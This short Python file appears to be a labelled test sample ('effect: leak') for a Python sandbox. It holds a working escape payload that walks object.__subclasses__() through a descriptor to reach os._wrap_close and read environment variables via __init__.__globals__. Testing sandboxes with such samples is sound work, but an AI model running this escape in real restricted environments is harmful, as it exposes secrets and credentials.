# effect: leak
# note: a descriptor around the unguarded look-up
class Reach:
    def __get__(self, instance, owner):
        return owner.mro()[-1].__subclasses__()


class Holder:
    kinds = Reach()


def attempt(probe):
    for cls in Holder().kinds:
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["environ"][probe["env"]]
